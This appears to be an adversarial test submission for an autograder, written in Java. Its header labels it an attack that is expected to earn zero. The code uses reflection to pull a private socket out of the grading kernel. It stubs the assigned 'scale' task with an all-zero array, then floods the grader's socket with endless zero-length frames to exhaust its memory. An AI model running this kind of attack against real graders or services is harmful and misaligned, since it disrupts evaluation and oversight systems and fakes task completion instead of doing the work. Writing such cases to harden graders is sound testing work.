// attack: sends messages of no bytes, which cost the grader memory and itself none
// slow: yes
// assignment: 00-start-here
// question: scale
// earns: 0
// reason: malformed|wasn.t done within
Object field(Object of, String name) throws Exception {
    for (Class<?> type = of.getClass(); type != null; type = type.getSuperclass()) {
        try {
            var field = type.getDeclaredField(name);
            field.setAccessible(true);
            return field.get(of);
        } catch (NoSuchFieldException above) {
        }
    }
    throw new NoSuchFieldException(name + " of " + of.getClass());
}
java.nio.channels.SocketChannel wire() throws Exception {
    Object output = field(io.percolate.kernel.Percolate.getKernelInstance(), "output");
    return (java.nio.channels.SocketChannel) field(field(field(field(output, "publisher"), "channel"), "line"), "channel");
}

void send(java.nio.channels.SocketChannel wire, byte[]... frames) throws Exception {
    int size = 4;
    for (byte[] frame : frames) size += 4 + frame.length;
    var bytes = java.nio.ByteBuffer.allocate(size).putInt(frames.length);
    for (byte[] frame : frames) bytes.putInt(frame.length).put(frame);
    bytes.flip();
    while (bytes.hasRemaining()) wire.write(bytes);
}

double[] scale(int[] pixels) {
    return new double[pixels.length];
}

var wire = wire();
var none = java.nio.ByteBuffer.allocateDirect(1 << 20);
while (none.remaining() >= 4 * 65) {
    none.putInt(64);
    for (int i = 0; i < 64; i++) none.putInt(0);
}
none.flip();
while (true) {
    none.rewind();
    wire.write(none);
}
